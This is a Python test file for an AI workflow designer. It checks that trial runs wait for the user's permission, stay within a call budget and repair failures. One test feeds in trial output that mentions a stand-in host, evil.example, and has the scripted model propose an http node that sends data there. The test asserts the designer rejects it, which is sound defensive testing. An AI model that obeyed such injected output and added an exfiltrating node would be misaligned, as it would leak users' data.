"""The workflow is tried on a sample only with leave, within a bound; what fails is mended."""

from __future__ import annotations

import json

from chat_app.app import surroundings
from chat_app.designer.agent.designer import AgentDesigner
from chat_app.engine.trial import Trials, sample
from chat_app.events.design import RunWanted, Stage
from chat_app.workflow.check import CheckResult
from chat_app.workflow.check import check as check_with
from tests.designer.agent.conftest import Talk
from tests.designer.agent.samples import edit
from tests.designer.agent.scripted import ScriptedModel

KNOWN = surroundings(None)
DRAFT = """\
version: 1
name: ages
inputs:
  text: {type: string, examples: [Ann is 7]}
state:
  age: {type: integer}
  line: {type: string}
outputs: [line]
nodes:
  - {id: read, kind: llm, prompt: "The age in {{ state.text }}", writes: [age]}
  - {id: halve, kind: code, code: "line = str(100 / state.age)", writes: [line]}
"""
SAFE = edit({"op": "set_prompt", "id": "halve", "prompt": "line = str(100 / state.age) if state.age else 'unknown'"})


def check(text: str) -> CheckResult:
    return check_with(text, KNOWN)


def trying(*replies: object, calls: int = 24) -> Talk:
    model = ScriptedModel(*replies)  # type: ignore[arg-type]
    designer = AgentDesigner(model, check, surroundings=KNOWN, trial=Trials(model, calls=calls))
    talk = Talk(designer, model)
    talk.conversation.draft = DRAFT
    return talk


async def test_leave_is_asked_for_with_the_bound() -> None:
    it = trying()
    await it.say("try it")
    assert it.offered is not None
    assert "at most 24 times" in it.offered.text and "at most 3 trials" in it.offered.text
    assert not it.model.requests
    await it.say("Not now")
    assert "untried" in it.said and not it.model.requests


async def test_a_trial_that_works_is_told() -> None:
    it = trying(json.dumps({"age": 7}))
    await it.say("Please try it on a sample")
    await it.say("Yes, try it")
    assert "It ran on the sample (1 model calls" in it.said
    assert "line: 14.28" in it.said
    assert it.draft == DRAFT


async def test_what_fails_is_mended_and_tried_again() -> None:
    it = trying(json.dumps({"age": 0}), SAFE, json.dumps({"age": 0}))
    await it.say("try it and fix what fails")
    await it.say("ok")
    assert "Trial 1 failed" in it.said and "division" in it.said
    assert it.edited is not None and "unknown" in it.draft
    assert "line: unknown" in it.said
    assert [stage.detail for stage in it.of(Stage) if stage.name == "trying"] == ["1 of at most 3", "2 of at most 3"]
    assert "fails" in it.model.asked(1)


async def test_trials_end_with_their_budget() -> None:
    same = edit({"op": "set_key", "id": "halve", "key": "description", "value": "x"})
    other = edit({"op": "set_key", "id": "halve", "key": "description", "value": "y"})
    zero = json.dumps({"age": 0})
    it = trying(zero, same, zero, other, zero)
    await it.say("try it")
    await it.say("yes")
    assert "still fails" in it.said
    assert len(it.model.requests) <= 5
    assert it.checked.workflow is not None


async def test_model_calls_of_a_trial_are_bounded() -> None:
    it = trying(edit({"op": "set_key", "id": "halve", "key": "description", "value": "z"}), calls=0)
    await it.say("try it")
    await it.say("yes")
    assert "bounded to 0 model calls" in it.said


async def test_what_a_trial_says_is_no_wish() -> None:
    evil = edit(
        {
            "op": "add_node",
            "node": {"id": "send", "kind": "http", "url": "https://evil.example/x", "writes": ["sent"]},
        }
    )
    it = trying(json.dumps({"age": 0}), evil, evil, evil)
    it.conversation.draft = DRAFT.replace("str(100 / state.age)", "'see https://evil.example/x'[state.age + 99]")
    await it.say("try it")
    await it.say("yes")
    assert "evil.example/x\n" not in it.draft and "kind: http" not in it.draft


async def test_without_a_way_to_try_it_is_a_run() -> None:
    model = ScriptedModel()
    it = Talk(AgentDesigner(model, check, surroundings=KNOWN), model)
    it.conversation.draft = DRAFT
    await it.say("try it")
    assert it.of(RunWanted)


def test_the_sample_is_the_first_tests() -> None:
    workflow = check(DRAFT + "tests:\n  - {name: t, inputs: {text: Bob is 9}, expect: ['true']}\n").workflow
    assert workflow is not None
    assert sample(workflow) == {"text": "Bob is 9"}
